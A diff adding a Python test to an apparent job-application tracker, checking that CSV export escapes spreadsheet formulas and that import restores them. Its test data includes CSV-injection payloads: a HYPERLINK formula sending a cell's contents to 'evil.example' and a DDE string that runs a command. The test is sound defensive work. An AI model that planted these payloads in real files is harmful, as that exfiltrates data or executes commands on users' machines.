@@ -137,6 +137,24 @@ def test_export_then_import_into_a_new_account_reproduces_the_applications(perso
     assert (again["created"], again["duplicates"], again["errors"]) == (0, 3, [])
 
 
+def test_csv_export_writes_formulas_as_text_and_the_import_reads_them_back(person: Person, other: Person) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    create(person.api, company=formula, role="+cmd|' /C calc'!A0", notes="@SUM(1+1)", tags=["-2+3"])
+    exported = person.api("GET", "/api/export?format=csv")
+    assert exported.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(exported.body.decode())))
+    assert row["company"] == "'" + formula
+    assert (row["role"], row["notes"], row["tags"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3")
+    assert other.imported(exported.body)["created"] == 1
+    [app] = other.applications()
+    assert (app["company"], app["role"], app["notes"], app["tags"]) == (
+        formula,
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        ["-2+3"],
+    )
+
+
 # ---- in: messy files from other tools ------------------------------------------------------------------
 
 
